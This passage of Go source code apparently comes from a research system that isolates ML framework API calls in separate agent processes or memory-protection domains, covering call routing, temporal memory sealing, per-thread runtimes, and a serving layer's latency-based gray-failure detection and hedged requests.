	rt.mu.Lock()
	defer rt.mu.Unlock()
	for _, a := range rt.agents {
		if a.types[t] {
			return a.process(), true
		}
	}
	return nil, false
}

// State returns the current framework state (§4.4.3).
func (rt *Runtime) State() framework.APIType {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	return rt.state
}

// HostCtx exposes the host execution context (application code runs here).
func (rt *Runtime) HostCtx() *framework.Ctx { return rt.hostCtx }

// Close shuts down all agent connections (domain- and host-tier
// partitions have none).
func (rt *Runtime) Close() {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	for _, a := range rt.agents {
		if a.conn != nil {
			a.conn.Close()
		}
	}
}

// RegisterCritical records a host-space object for temporal protection:
// it becomes read-only when the framework leaves the current state. When
// the policy runs any partition as an MPK domain, the object's pages are
// additionally tagged with the reserved host-critical protection key, so
// a domain-tier partition faults on them mid-call even for reads (the
// temporal seal alone leaves reads open).
func (rt *Runtime) RegisterCritical(r mem.Region) {
	rt.mu.Lock()
	rt.defined[rt.state] = append(rt.defined[rt.state], definedObject{space: rt.Host.Space(), region: r})
	usesDomains := rt.usesDomains
	rt.mu.Unlock()
	if usesDomains {
		_ = rt.Host.Space().SetKey(r, hostCriticalKey)
	}
}

// transition enforces §4.4.3: on a state change, every object defined
// during the previous state becomes read-only.
func (rt *Runtime) transition(next framework.APIType) {
	rt.mu.Lock()
	if next == rt.state || next == framework.TypeUnknown {
		rt.mu.Unlock()
		return
	}
	prev := rt.state
	rt.state = next
	toProtect := rt.defined[prev]
	rt.defined[prev] = nil
	rt.mu.Unlock()

	if !rt.Config.EnforcePermissions {
		return
	}
	for _, d := range toProtect {
		rt.mu.Lock()
		skip := rt.exempt[exemptKey{d.space, d.region.Base}]
		rt.mu.Unlock()
		if skip {
			continue
		}
		pages, err := d.space.ProtectRegion(d.region, mem.PermRead)
		if err != nil {
			continue // freed or remapped region: nothing to protect
		}
		rt.Metrics.AddPermFlip(pages)
		rt.K.Clock.Advance(rt.K.Cost.MProtect)
	}
}

// recordDefined registers result objects as defined in the current state.
func (rt *Runtime) recordDefined(handles []Handle) {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	for _, h := range handles {
		ep, ok := rt.endpoints[h.ref.PID]
		if !ok || h.materialized {
			if h.materialized {
				if o, found := rt.hostCtx.Table.Get(h.local); found {
					rt.defined[rt.state] = append(rt.defined[rt.state], definedObject{space: o.Space(), region: o.Region()})
				}
			}
			continue
		}
		id := h.ref.ID
		if ep.agent != nil {
			id = ep.agent.resolveID(id)
		}
		if o, found := ep.table().Get(id); found {
			rt.defined[rt.state] = append(rt.defined[rt.state], definedObject{space: o.Space(), region: o.Region()})
		}
	}
}

// Call interposes one framework API invocation from the host program: it
// routes to the owning agent over RPC, moves data per the LDC policy,
// drives the temporal state machine, and returns handles to the results.
func (rt *Runtime) Call(apiName string, args ...framework.Value) ([]Handle, []framework.Value, error) {
	api, ok := rt.Reg.Get(apiName)
	if !ok {
		return nil, nil, fmt.Errorf("core: unknown API %s", apiName)
	}
	rt.Metrics.AddAPICall()

	// State machine first: the call's type defines the new state, and the
	// transition protects the previous state's objects before the agent
	// touches anything (Fig. 3).
	t := rt.Cat.TypeOf(apiName)
	if !(rt.Cat.Neutral[apiName] || api.Neutral) {
		rt.transition(t)
	}

	a, err := rt.agentFor(api)
	if err != nil {
		return nil, nil, err
	}

	// Objects flowing through a stateful API are its internal state: the
	// runtime keeps them writable across framework states (§A.2.4 — the
	// API mutates them on every call), restoring write access if a prior
	// transition already sealed them.
	if api.Stateful {
		for _, v := range args {
			if v.Kind != framework.ValRef {
				continue
			}
			space, region, ok := rt.Locate(Handle{ref: v.Ref})
			if !ok {
				continue
			}
			rt.mu.Lock()
			rt.exempt[exemptKey{space, region.Base}] = true
			rt.mu.Unlock()
			if rt.Config.EnforcePermissions {
				if perm, mapped := space.PermAt(region.Base); mapped && !perm.CanWrite() {
					if _, perr := space.ProtectRegion(region, mem.PermRW); perr == nil {
						rt.Metrics.AddPermFlip(0)
						rt.K.Clock.Advance(rt.K.Cost.MProtect)
					}
				}
			}
		}
	}

	// A partition the circuit breaker demoted runs in-host (§4.4.2's
	// availability escape hatch): no isolation, but the pipeline survives.
	if a.isDegraded() {
		return rt.finishDegraded(api, args)
	}

	// Cross the partition's isolation boundary: per-call IPC for the
	// process tier, a PKRU-bracketed direct call for the domain tier,
	// plain in-host execution for the host tier.
	//
	// The DoS resource watchdog brackets the crossing for partitions that
	// share the host's fate: a domain- or host-tier invocation that kills
	// the host, or overruns its virtual-time budget, is the one attack
	// shape those tiers cannot contain — so it is at least *detected*
	// here and reported to the anomaly hook. Observation only: no clock
	// advance, no state change, nothing when the hook is nil.
	watch := rt.Config.OnAnomaly != nil && a.boundary.Tier() != isolation.TierProcess
	var watchStart vclock.Duration
	if watch {
		watchStart = rt.K.Clock.Now()
	}
	handles, plain, err := a.boundary.Invoke(rt, a, api, args)
	if watch {
		if !rt.Host.Alive() {
			rt.Metrics.AddWatchdogTrip()
			rt.Config.OnAnomaly(t, apiName, "host-crash",
				fmt.Sprintf("%s-tier invocation killed the host", a.boundary.Tier()))
		} else if b := rt.Config.WatchdogBudget; b > 0 && rt.K.Clock.Now()-watchStart > b {
			rt.Metrics.AddWatchdogTrip()
			rt.Config.OnAnomaly(t, apiName, "budget",
				fmt.Sprintf("%s-tier invocation ran %v past its %v budget",
					a.boundary.Tier(), rt.K.Clock.Now()-watchStart-b, b))
		}
	}
	if errors.Is(err, errAgentDegraded) {
		// The breaker tripped while this very call was being supervised.
		return rt.finishDegraded(api, args)
	}
	if err != nil {
		return nil, nil, err
	}
	if api.Stateful {
		for _, h := range handles {
			if space, region, ok := rt.Locate(h); ok {
				rt.mu.Lock()
				rt.exempt[exemptKey{space, region.Base}] = true
				rt.mu.Unlock()
			}
		}
	}
	rt.recordDefined(handles)
	return handles, plain, nil
}

// finishDegraded runs the in-host execution path and applies the same
// post-call bookkeeping (stateful exemptions, temporal registration) that
// the RPC path applies.
//
// Under a serving session (a portable checkpoint log is attached and a
// session is in scope) the degraded path is refused instead: in-host
// execution cannot honor the portable-checkpoint contract — mutations would
// bypass the log and freshly created objects have no cross-shard identity —
// so a tripped breaker surfaces as a crash-class failure. The executor
// treats loss of isolation as loss of the shard: it drains it and re-runs
// the invocation on an isolated replacement. The API never executes here,
// so the re-run stays exactly-once.
func (rt *Runtime) finishDegraded(api *framework.API, args []framework.Value) ([]Handle, []framework.Value, error) {
	if log, session := rt.checkpointScope(); log != nil && session >= 0 {
		return nil, nil, fmt.Errorf("%w: breaker degraded a partition under serving session %d", ipc.ErrAgentCrashed, session)
	}
	handles, plain, err := rt.callDegraded(api, args)
	if err != nil {
		return nil, nil, err
	}
	if api.Stateful {
		for _, h := range handles {
			if space, region, ok := rt.Locate(h); ok {
				rt.mu.Lock()
				rt.exempt[exemptKey{space, region.Base}] = true
				rt.mu.Unlock()
			}
		}
	}
	rt.recordDefined(handles)
	return handles, plain, nil
}

// marshalArgs converts host-side argument values into wire form: handle
// refs pass as-is (LDC) and host-local objects ship as deep copies.
func (rt *Runtime) marshalArgs(args []framework.Value) (framework.Call, error) {
	call := framework.Call{
		Args:     make([]framework.Value, len(args)),
		Payloads: make([][]byte, len(args)),
	}
	for i, v := range args {
		switch v.Kind {
		case framework.ValObj:
			// Host-owned object: deep-copy its payload across (§4.3).
			o, ok := rt.hostCtx.Table.Get(v.Obj)
			if !ok {
				return framework.Call{}, fmt.Errorf("core: dangling host object %d", v.Obj)
			}
			ref, err := rt.hostCtx.Table.RefFor(v.Obj)
			if err != nil {
				return framework.Call{}, err
			}
			payload, err := object.PayloadBytes(o)
			if err != nil {
				return framework.Call{}, err
			}
			rt.Metrics.AddEagerCopy(len(payload))
			call.Args[i] = framework.RefVal(ref)
			call.Payloads[i] = payload
		case framework.ValRef:
			if rt.Config.LazyDataCopy {
				call.Args[i] = v
				continue
			}
			// Without LDC a ref should never escape; materialize defensively.
			payload, err := rt.loadRemote(v.Ref)
			if err != nil {
				return framework.Call{}, err
			}
			rt.Metrics.AddEagerCopy(len(payload))
			call.Args[i] = v
			call.Payloads[i] = payload
		default:
			call.Args[i] = v
		}
	}
	return call, nil
}

// Locate returns the address space and region behind a handle, for
// inspection (tests, attack analysis). ok is false for dangling handles.
func (rt *Runtime) Locate(h Handle) (*mem.AddressSpace, mem.Region, bool) {
	if h.materialized {
		o, ok := rt.hostCtx.Table.Get(h.local)
		if !ok {
			return nil, mem.Region{}, false
		}
		return o.Space(), o.Region(), true
	}
	ep, ok := rt.endpoint(h.ref.PID)
	if !ok {
		return nil, mem.Region{}, false
	}
	id := h.ref.ID
	if ep.agent != nil {
		id = ep.agent.resolveID(id)
	}
	o, ok := ep.table().Get(id)
	if !ok {
		return nil, mem.Region{}, false
	}
	return o.Space(), o.Region(), true
}

// RestartDead revives every crashed or killed agent under the restart
// policy (the standalone supervisor of §4.4.2). It is also invoked
// automatically when a call observes a crash. Only process-tier
// partitions are restartable: a dead domain- or host-tier partition
// means the host process itself is gone.
func (rt *Runtime) RestartDead() error {
	rt.mu.Lock()
	agents := make([]*agent, 0, len(rt.agents))
	for _, a := range rt.agents {
		agents = append(agents, a)
	}
	rt.mu.Unlock()
	for _, a := range agents {
		if a.boundary.Tier() != isolation.TierProcess {
			continue
		}
		if !a.process().Alive() {
			if err := rt.superviseRestart(a); err != nil {
				return err
			}
		}
	}
	return nil
}

// Fetch materializes a handle's payload into the host address space and
// returns the bytes — the host program dereferencing a result.
func (rt *Runtime) Fetch(h Handle) ([]byte, error) {
	if h.materialized {
		o, ok := rt.hostCtx.Table.Get(h.local)
		if !ok {
			return nil, fmt.Errorf("core: dangling materialized handle %d", h.local)
		}
		return object.PayloadBytes(o)
	}
	payload, err := rt.loadRemote(h.ref)
	if err != nil {
		return nil, err
	}
	// Dereferencing a domain-tier result is an in-address-space read, not
	// a cross-space copy; it pays the cheaper domain rate. The nil-policy
	// path never has domain owners, so it charges exactly as before.
	if ep, ok := rt.endpoint(h.ref.PID); ok && ep.agent != nil && ep.agent.boundary.Tier() == isolation.TierDomain {
		rt.Metrics.AddDomainCopy(len(payload))
		rt.K.Clock.Advance(rt.K.Cost.DomainCopyCost(len(payload)))
	} else {
		rt.Metrics.AddLazyCopy(len(payload))
		rt.K.Clock.Advance(rt.K.Cost.DirectCopyCost(len(payload)))
	}
	return payload, nil
}

// SetCheckpointLog attaches the serving layer's portable checkpoint log.
// Stateful-API checkpoints taken while a session scope is set are written
// through to the log, and Adopt materializes log entries into this runtime.
// Called by the executor at shard construction and replacement.
func (rt *Runtime) SetCheckpointLog(l *object.CheckpointLog) {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	rt.ckptLog = l
}

// SetSessionScope marks the serving session the next invocations belong to
// (-1 clears the scope). The executor sets it around each session job while
// holding the shard lock, so invocations on one runtime never observe
// another session's scope.
func (rt *Runtime) SetSessionScope(session int) {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	rt.ckptSession = session
}

// SessionScope returns the serving session the current invocation belongs
// to (-1 when none) — the attribution handle defense sensors use to map an
// in-flight exploit back to the tenant that sent it.
func (rt *Runtime) SessionScope() int {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	return rt.ckptSession
}

// checkpointScope reads the attached log and current session scope.
func (rt *Runtime) checkpointScope() (*object.CheckpointLog, int) {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	return rt.ckptLog, rt.ckptSession
}

// adoptTarget picks the agent a checkpoint materializes into: the agent
// whose pid matches the slot's owner if shard layouts line up (factories
// spawn deterministically, so a replacement shard has the same pid map),
// otherwise the agent homing the checkpoint's API type.
func (rt *Runtime) adoptTarget(cp object.Checkpoint) (*agent, error) {
	wantPID := uint32(cp.Key.Slot >> 32)
	t := framework.APIType(cp.Key.Type)
	rt.mu.Lock()
	defer rt.mu.Unlock()
	if ep, ok := rt.endpoints[wantPID]; ok && ep.agent != nil {
		return ep.agent, nil
	}
	ids := make([]int, 0, len(rt.agents))
	for id := range rt.agents {
		ids = append(ids, id)
	}
	sort.Ints(ids)
	for _, id := range ids {
		if rt.agents[id].types[t] {
			return rt.agents[id], nil
		}
	}
	return nil, fmt.Errorf("core: no agent homes type %s for checkpoint adoption", t)
}

// Adopt materializes one portable checkpoint into this runtime: the state
// object is rebuilt inside the owning-type agent's address space, registered
// in its table, marked exempt from temporal sealing (stateful state stays
// writable, §A.2.4), recorded in the agent's local checkpoint map (so later
// restarts of this shard restore it too), and re-appended to the log under
// its new slot so a second failover finds it. Returns a handle valid on this
// runtime — the migrated session's replacement for its old-shard handle.
func (rt *Runtime) Adopt(session int, cp object.Checkpoint) (Handle, error) {
	a, err := rt.adoptTarget(cp)
	if err != nil {
		return Handle{}, err
	}
	ctx := a.context()
	o, err := cp.Materialize(ctx.P.Space())
	if err != nil {
		return Handle{}, fmt.Errorf("core: checkpoint materialize: %w", err)
	}
	id := ctx.Table.Put(o)
	a.mu.Lock()
	a.checkpoints[id] = checkpoint{kind: cp.Kind, header: cp.Header, payload: cp.Payload}
	a.mu.Unlock()
	rt.Metrics.AddCheckpoint()
	rt.K.Clock.Advance(rt.K.Cost.CopyCost(len(cp.Payload)))

	rt.mu.Lock()
	rt.exempt[exemptKey{o.Space(), o.Region().Base}] = true
	log := rt.ckptLog
	rt.mu.Unlock()

	ref, err := ctx.Table.RefFor(id)
	if err != nil {
		return Handle{}, err
	}
	if log != nil {
		key := object.CheckpointKey{
			Session: session,
			Type:    cp.Key.Type,
			Slot:    object.Slot(uint32(ctx.P.PID()), id),
		}
		log.Append(key, cp.Kind, cp.Header, cp.Payload)
	}
	return Handle{ref: ref, size: len(cp.Payload), kind: cp.Kind}, nil
}

// SealObject applies intra-process PKU-style protection to an
// agent-resident object (§7's complementary hardening, Hodor/ERIM-style):
// the object's pages join the given protection key domain with stores
// disabled, so even code running *inside* a compromised agent — payloads
// included — faults when writing it. Reads stay allowed so the APIs keep
// consuming the data.
func (rt *Runtime) SealObject(h Handle, key mem.Key) error {
	space, region, ok := rt.Locate(h)
	if !ok {
		return fmt.Errorf("core: cannot locate object to seal")
	}
	if err := space.SetKey(region, key); err != nil {
		return err
	}
	return space.SetKeyAccess(key, true, false)
}
