package core

import (
	"fmt"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// ThreadGroup implements §6's multi-threading model: a multi-threaded host
// program gets one private set of four agent processes per thread, so
// concurrent framework calls never race on an agent's object table or
// pipeline state. All threads share the host process (threads share an
// address space) and the kernel.
type ThreadGroup struct {
	K       *kernel.Kernel
	Host    *kernel.Process
	threads []*Runtime
}

// NewThreadGroup spawns n per-thread runtimes. Each runtime has its own
// agents, metrics, and framework-state machine; they share the host
// process and its address space (host-side critical data is visible to —
// and protected for — every thread).
func NewThreadGroup(k *kernel.Kernel, reg *framework.Registry, cat *analysis.Categorization, cfg Config, n int) (*ThreadGroup, error) {
	if n <= 0 {
		return nil, fmt.Errorf("core: thread group needs n > 0")
	}
	g := &ThreadGroup{K: k}
	for i := 0; i < n; i++ {
		rt, err := New(k, reg, cat, cfg)
		if err != nil {
			g.Close()
			return nil, err
		}
		if i == 0 {
			g.Host = rt.Host
		} else {
			// Later threads adopt thread 0's host process: all threads
			// live in the host program's single address space.
			rt.adoptHost(g.Host, g.threads[0].hostCtx)
		}
		g.threads = append(g.threads, rt)
	}
	return g, nil
}

// adoptHost rebinds the runtime's host side to a shared process/context,
// releasing its own placeholder host.
func (rt *Runtime) adoptHost(host *kernel.Process, hostCtx *framework.Ctx) {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	own := rt.Host
	delete(rt.endpoints, uint32(own.PID()))
	rt.K.Exit(own)
	rt.Host = host
	rt.hostCtx = hostCtx
	rt.endpoints[uint32(host.PID())] = &endpoint{
		space: host.Space,
		table: func() *object.Table { return hostCtx.Table },
	}
}

// Thread returns the i-th thread's runtime.
func (g *ThreadGroup) Thread(i int) *Runtime { return g.threads[i] }

// Len returns the number of threads.
func (g *ThreadGroup) Len() int { return len(g.threads) }

// Close shuts down every thread's agents.
func (g *ThreadGroup) Close() {
	for _, rt := range g.threads {
		rt.Close()
	}
}
