package core

import (
	"errors"
	"fmt"
	"sort"

	"freepart.dev/freepart/internal/vclock"
)

// This file is the serving layer's gray-failure machinery: latency-based
// suspicion scoring (a shard that is alive but slow never trips a crash
// window, so the health policy needs a signal built from service times)
// and hedged requests (the tail-latency defense for the detection window a
// scorer necessarily has). Both are zero-cost when disabled: the zero
// GrayPolicy and HedgePolicy leave every admission byte-identical to the
// pre-gray executor.

// GrayPolicy configures latency-based gray-failure detection. Every
// completed invocation folds its virtual service time into a per-shard
// EWMA; a shard whose EWMA exceeds Ratio times the reference service time
// accrues suspicion (phi-accrual style: evidence accumulates instead of a
// single threshold firing), and at DrainScore the shard is drained through
// the same drain→replace→migrate failover path a crash window uses.
// Suspicion decays while the shard behaves, so a recovering shard is not
// flapped — the hysteresis half of the policy.
//
// The zero value disables scoring entirely.
type GrayPolicy struct {
	// Ratio is the suspicion threshold: a shard is suspect while its
	// service-time EWMA exceeds Ratio × the reference. <= 0 disables the
	// scorer (the zero-cost default).
	Ratio float64
	// Alpha is the EWMA weight of the newest sample in (0, 1]; 0 means the
	// default 0.4 — heavy enough that a 10x shard is obvious within a few
	// samples, light enough that one stall is not a verdict.
	Alpha float64
	// MinSamples is how many samples a shard must have before it is scored
	// (and before its EWMA may serve as a peer reference); 0 means 4.
	MinSamples int
	// Baseline, when set, is the fixed reference service time — typically
	// calibrated from a fault-free run — making every scoring decision a
	// pure function of the shard's own completions (the mode the
	// byte-equal soaks use). 0 derives the reference live as the median
	// EWMA of the other shards in the pool.
	Baseline vclock.Duration
	// Rise is the suspicion added per over-threshold completion; 0 means 1.
	Rise float64
	// Decay is the suspicion removed per healthy completion; 0 means 0.5.
	// Keeping Decay below Rise means a flapping shard still converges to a
	// drain, while a shard with one bad window walks back to clean.
	Decay float64
	// DrainScore is the suspicion at which the shard is drained; 0 means 4.
	DrainScore float64
}

// active reports whether scoring is enabled.
func (p GrayPolicy) active() bool { return p.Ratio > 0 }

func (p GrayPolicy) alpha() float64 {
	if p.Alpha <= 0 || p.Alpha > 1 {
		return 0.4
	}
	return p.Alpha
}

func (p GrayPolicy) minSamples() uint64 {
	if p.MinSamples <= 0 {
		return 4
	}
	return uint64(p.MinSamples)
}

func (p GrayPolicy) rise() float64 {
	if p.Rise <= 0 {
		return 1
	}
	return p.Rise
}

func (p GrayPolicy) decay() float64 {
	if p.Decay <= 0 {
		return 0.5
	}
	return p.Decay
}

func (p GrayPolicy) drainScore() float64 {
	if p.DrainScore <= 0 {
		return 4
	}
	return p.DrainScore
}

// grayState is one pool slot's suspicion accumulator, guarded by the
// executor's mu. It belongs to a single incarnation: a replacement shard
// starts clean (drains carry over as the slot's history).
type grayState struct {
	gen     int
	ewma    float64
	samples uint64
	score   float64
	suspect bool
	drains  uint64
}

// GrayScore is one slot's suspicion snapshot — what servers print in the
// end-of-run summary next to the per-class failure tally.
type GrayScore struct {
	// ID is the pool slot; Gen the incarnation the live score belongs to.
	ID  int
	Gen int
	// EWMA is the slot's current service-time estimate; Samples how many
	// completions fed it.
	EWMA    vclock.Duration
	Samples uint64
	// Score is the accrued suspicion; Suspect whether the slot currently
	// exceeds the policy ratio.
	Score   float64
	Suspect bool
	// Drains counts gray drains of this slot across incarnations.
	Drains uint64
}

// String renders the score as one summary line.
func (g GrayScore) String() string {
	state := "healthy"
	if g.Suspect {
		state = "SUSPECT"
	}
	return fmt.Sprintf("shard %d/gen %d: ewma %v score %.1f (%s, %d samples, %d gray drains)",
		g.ID, g.Gen, g.EWMA, g.Score, state, g.Samples, g.Drains)
}

// SetGray installs the gray-failure scoring policy. Install it before
// serving; the zero policy disables scoring and keeps the admission path
// bit-identical to the pre-gray executor.
func (e *Executor) SetGray(p GrayPolicy) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.grayp = p
}

// grayPolicy reads the installed scoring policy.
func (e *Executor) grayPolicy() GrayPolicy {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.grayp
}

// GrayScores snapshots every live slot's suspicion state, ascending by
// slot id. Slots that never completed a scored invocation report zeroes.
func (e *Executor) GrayScores() []GrayScore {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]GrayScore, len(e.shards))
	for i, sh := range e.shards {
		out[i] = GrayScore{ID: sh.ID, Gen: sh.Gen}
		if g := e.grays[sh.ID]; g != nil {
			out[i].Drains = g.drains
			if g.gen == sh.Gen {
				out[i].EWMA = vclock.Duration(g.ewma)
				out[i].Samples = g.samples
				out[i].Score = g.score
				out[i].Suspect = g.suspect
			}
		}
	}
	return out
}

// peerMedianLocked returns the median service-time EWMA across live shards
// other than slot id, counting only shards with at least min samples in
// their current incarnation. 0 means no reference is available yet.
// Caller holds e.mu.
func (e *Executor) peerMedianLocked(id int, min uint64) float64 {
	var peers []float64
	for _, sh := range e.shards {
		if sh.ID == id {
			continue
		}
		if g := e.grays[sh.ID]; g != nil && g.gen == sh.Gen && g.samples >= min {
			peers = append(peers, g.ewma)
		}
	}
	if len(peers) == 0 {
		return 0
	}
	sort.Float64s(peers)
	mid := len(peers) / 2
	if len(peers)%2 == 1 {
		return peers[mid]
	}
	return (peers[mid-1] + peers[mid]) / 2
}

// observeService folds one completed invocation's virtual service time
// into the shard's suspicion score and, when the score crosses the drain
// threshold, marks the shard lost so its next admission fails over —
// exactly the path a crash window takes, reached from a latency signal.
// Transitions land in the failover event log ("suspect", "suspect-clear",
// "gray-drain") under the same lock as the metrics counters. Called with
// sh.mu held (shard mu orders before executor mu), with the shard clock
// already at end.
func (e *Executor) observeService(sh *Shard, svc, end vclock.Duration) {
	e.mu.Lock()
	pol := e.grayp
	if !pol.active() || svc < 0 {
		e.mu.Unlock()
		return
	}
	g := e.grays[sh.ID]
	if g == nil {
		g = &grayState{gen: sh.Gen}
		e.grays[sh.ID] = g
	}
	if g.gen != sh.Gen {
		// A replacement starts with a clean record; only the slot's drain
		// history survives.
		*g = grayState{gen: sh.Gen, drains: g.drains}
	}
	a := pol.alpha()
	if g.samples == 0 {
		g.ewma = float64(svc)
	} else {
		g.ewma = a*float64(svc) + (1-a)*g.ewma
	}
	g.samples++
	if g.samples < pol.minSamples() {
		e.mu.Unlock()
		return
	}
	ref := float64(pol.Baseline)
	if ref <= 0 {
		ref = e.peerMedianLocked(sh.ID, pol.minSamples())
	}
	if ref <= 0 {
		e.mu.Unlock()
		return
	}
	event := func(kind, detail string) {
		e.events = append(e.events, FailoverEvent{At: end, Shard: sh.ID, Gen: sh.Gen, Kind: kind, Detail: detail})
	}
	if g.ewma > pol.Ratio*ref {
		g.score += pol.rise()
		if !g.suspect {
			g.suspect = true
			event("suspect", fmt.Sprintf("ewma %v over %.1fx ref %v",
				vclock.Duration(g.ewma), pol.Ratio, vclock.Duration(ref)))
		}
	} else if g.score > 0 {
		g.score -= pol.decay()
		if g.score <= 0 {
			g.score = 0
			if g.suspect {
				g.suspect = false
				event("suspect-clear", fmt.Sprintf("ewma %v back under %.1fx ref %v",
					vclock.Duration(g.ewma), pol.Ratio, vclock.Duration(ref)))
			}
		}
	}
	reason := ""
	if g.suspect && g.score >= pol.drainScore() && !sh.Failed() {
		g.drains++
		reason = fmt.Sprintf("gray failure: service ewma %v over %.1fx reference %v (score %.1f)",
			vclock.Duration(g.ewma), pol.Ratio, vclock.Duration(ref), g.score)
		event("gray-drain", reason)
		e.met.AddGrayDrain()
	}
	e.mu.Unlock()
	if reason != "" {
		sh.fail(reason)
	}
}

// HedgePolicy configures hedged requests: when a stamped (open-loop,
// idempotent) invocation's primary has not completed Delay past its
// arrival in virtual time, a secondary is launched on another shard and
// the first virtual completion wins. Closed-loop invocations — session
// inits, provisioning, legacy Do calls — are exempt, mirroring the
// deadline-shedding rule: they are not idempotent serving requests and
// have no client-side arrival to anchor the delay to.
//
// The zero value disables hedging.
type HedgePolicy struct {
	// Delay is the virtual time past arrival after which a secondary is
	// launched. Derive it from a latency quantile of a calibration run
	// (DeriveHedgeDelay) so only genuine tail requests hedge. 0 disables.
	Delay vclock.Duration
}

// active reports whether hedging is enabled.
func (p HedgePolicy) active() bool { return p.Delay > 0 }

// DeriveHedgeDelay turns a calibration latency distribution into a hedge
// delay: the q-th percentile, floored at min. A p95-derived delay bounds
// hedge extra work near 5% of requests by construction.
func DeriveHedgeDelay(lat *vclock.Latencies, q float64, min vclock.Duration) vclock.Duration {
	d := lat.Percentile(q)
	if d < min {
		d = min
	}
	return d
}

// SetHedge installs the hedged-request policy. Install it before serving;
// the zero policy disables hedging and keeps DoAt bit-identical to the
// pre-gray executor.
func (e *Executor) SetHedge(p HedgePolicy) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.hedgep = p
}

// hedgePolicy reads the installed hedge policy.
func (e *Executor) hedgePolicy() HedgePolicy {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.hedgep
}

// hedgeTarget picks the shard a hedge launches on: the live, non-suspect
// shard with the earliest predicted completion — its current clock (or the
// hedge launch time if it is idle past it) plus its service-time estimate
// — provided that prediction beats the primary's completion at pEnd; ties
// go to the lower slot id. Two properties matter here. The profit gate is
// the hedge-storm breaker: when every shard carries the same backlog no
// target is predicted to win, so no hedge launches and hedge work can
// never feed the queueing that would trigger more hedges; a hedge fires
// exactly when the pool is skewed — one shard slow or stuck behind a
// failover — which is when a secondary genuinely rescues the request. And
// picking the argmin rather than a ring successor spreads hedge work
// across the healthy pool: a fixed scan order would concentrate every
// hedge on one victim shard, whose inflated backlog would push its own
// requests past the delay and ripple the load around the ring.
// Deterministic for a fixed pool state, so hedge placement replays.
func (e *Executor) hedgeTarget(primary *Shard, hArr, pEnd vclock.Duration) *Shard {
	e.mu.Lock()
	defer e.mu.Unlock()
	if len(e.shards) <= 1 {
		return nil
	}
	var best *Shard
	var bestEnd vclock.Duration
	for _, sh := range e.shards {
		if sh == primary || sh.Failed() {
			continue
		}
		g := e.grays[sh.ID]
		if g != nil && g.gen == sh.Gen && g.suspect {
			// A suspect shard is a bad secondary: its own service time is
			// the problem a hedge is meant to escape.
			continue
		}
		start := sh.K.Clock.Now()
		if hArr > start {
			start = hArr
		}
		var predicted vclock.Duration
		switch {
		case g != nil && g.gen == sh.Gen && g.samples > 0:
			predicted = vclock.Duration(g.ewma)
		case e.grayp.Baseline > 0:
			predicted = e.grayp.Baseline
		}
		if end := start + predicted; end < pEnd && (best == nil || end < bestEnd) {
			best, bestEnd = sh, end
		}
	}
	return best
}

// shedClass reports whether err is a deliberate admission refusal
// (overload, deadline, quarantine, signature screen) rather than a served
// outcome. A shed hedge never wins the completion race: its early "finish"
// is a refusal, not an answer.
func shedClass(err error) bool {
	return err != nil && (errors.Is(err, ErrOverloaded) || errors.Is(err, ErrDeadlineExceeded) ||
		errors.Is(err, ErrQuarantined) || errors.Is(err, ErrAttackBlocked))
}

// doHedged runs one stamped invocation under the hedge policy: the primary
// runs on the session's shard as usual (failover included) but records no
// latency sample yet; if its virtual completion overran arrival+Delay, a
// secondary runs on another shard with an arrival stamp of arrival+Delay,
// and the winner — first virtual completion, ties to the lower shard id —
// supplies the recorded latency and the returned error. The loser is
// cancelled but stays charged: its shard clock keeps the work, which is
// the extra-work cost the Hedges/HedgeWork counters price. The secondary
// only launches when a target is predicted to beat the primary (see
// hedgeTarget) — overrun alone is not enough, or hedge work would feed
// the very queueing that triggers hedges. Caller holds a worker-pool
// slot.
func (s *Session) doHedged(arrival vclock.Duration, hp HedgePolicy, job func(sh *Shard) error) error {
	e := s.ex
	pArr := arrival
	primary, pEnd, _, pErr := s.runPrimary(&pArr, job, true, false)
	if primary == nil {
		// Failover itself failed; there is no completion to time.
		return pErr
	}
	if shedClass(pErr) {
		// Refused at admission: nothing ran, nothing to hedge, and — as on
		// the unhedged path — no latency sample.
		return pErr
	}
	if pEnd-arrival <= hp.Delay {
		e.lat.Add(pEnd - arrival)
		return pErr
	}
	hShard, hEnd, hErr, launched := s.runHedge(primary, arrival+hp.Delay, pEnd, job)
	if !launched {
		e.lat.Add(pEnd - arrival)
		return pErr
	}
	hedgeWins := !shedClass(hErr) && (hEnd < pEnd || (hEnd == pEnd && hShard.ID < primary.ID))
	if hedgeWins {
		e.recordEvent(hShard, "hedge-win",
			fmt.Sprintf("session %d beat primary shard %d by %v", s.ID, primary.ID, pEnd-hEnd))
		e.lat.Add(hEnd - arrival)
		return hErr
	}
	e.recordEvent(hShard, "hedge-cancel",
		fmt.Sprintf("session %d primary shard %d won by %v", s.ID, primary.ID, hEnd-pEnd))
	e.lat.Add(pEnd - arrival)
	return pErr
}

// runHedge launches the secondary: a deterministic scan picks a target
// predicted to beat the primary's completion at pEnd, the invocation is
// admitted there with the hedge launch time as its arrival stamp, and a
// target lost mid-hedge fails over and the scan retries. Reports
// launched=false when no profitable target exists — the primary's result
// then stands unhedged.
func (s *Session) runHedge(primary *Shard, hArr, pEnd vclock.Duration, job func(sh *Shard) error) (*Shard, vclock.Duration, error, bool) {
	e := s.ex
	for attempt := 0; attempt < e.Shards(); attempt++ {
		sh := e.hedgeTarget(primary, hArr, pEnd)
		if sh == nil {
			return nil, 0, nil, false
		}
		sh.mu.Lock()
		start := sh.K.Clock.Now()
		e.recordEvent(sh, "hedge",
			fmt.Sprintf("session %d primary shard %d overran +%v", s.ID, primary.ID, hArr))
		arr := hArr
		done, end, _, err := s.runLocked(sh, &arr, job, true, false)
		failed := sh.Failed()
		sh.mu.Unlock()
		if done {
			work := end - start
			if hArr > start {
				work = end - hArr
			}
			e.met.AddHedgeWork(work)
			return sh, end, err, true
		}
		if failed {
